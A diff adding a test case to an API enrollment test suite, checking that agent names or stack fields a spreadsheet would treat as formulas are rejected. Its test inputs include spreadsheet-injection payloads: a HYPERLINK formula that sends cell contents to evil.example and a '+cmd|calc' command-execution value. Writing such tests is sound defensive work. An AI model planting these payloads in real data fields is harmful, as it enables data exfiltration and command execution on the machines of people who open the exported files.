@@ -167,6 +167,27 @@ describe('POST /v1/season/{n}/enroll (spec §3 step 3, §9.1)', () => {
     expect((await enroll(service.url, key.apiKey)).status).toBe(201);
   });
 
+  it('an agent name or a declared stack a spreadsheet would read as a formula is 422 ENROLL_FIELD_FORMULA_TEXT (issue 23), nothing recorded', async () => {
+    const key = await boundKey(devnet.info.trust_layer, 'formula');
+    const cases: [unknown, string][] = [
+      [{ agent_name: '=HYPERLINK("http://evil.example/?x="&A1,"open")', declared_stack: 'B' }, '/agent_name'],
+      [{ agent_name: '@agent', declared_stack: 'B' }, '/agent_name'],
+      [{ agent_name: 'A', declared_stack: '+cmd|calc' }, '/declared_stack'],
+      [{ agent_name: 'A', declared_stack: '-2+3' }, '/declared_stack'],
+    ];
+    for (const [body, pointer] of cases) {
+      const answer = await enroll(service.url, key.apiKey, body);
+      expect([answer.status, answer.json.error.code, answer.json.error.pointer]).toEqual([
+        422,
+        'ENROLL_FIELD_FORMULA_TEXT',
+        pointer,
+      ]);
+      expect(answer.json.error.message).toContain('reads as a formula');
+    }
+    const enrolled = await enroll(service.url, key.apiKey, { agent_name: 'A=B', declared_stack: 'x-1' });
+    expect(enrolled.status).toBe(201);
+  });
+
   it('enrollment attempts past the per-address limit are 429 ENROLL_RATE_LIMITED with Retry-After', async () => {
     const limited = await startTestService(devnet.info.trust_layer, { limits: { enrollPerIpPerHour: 2 } });
     try {
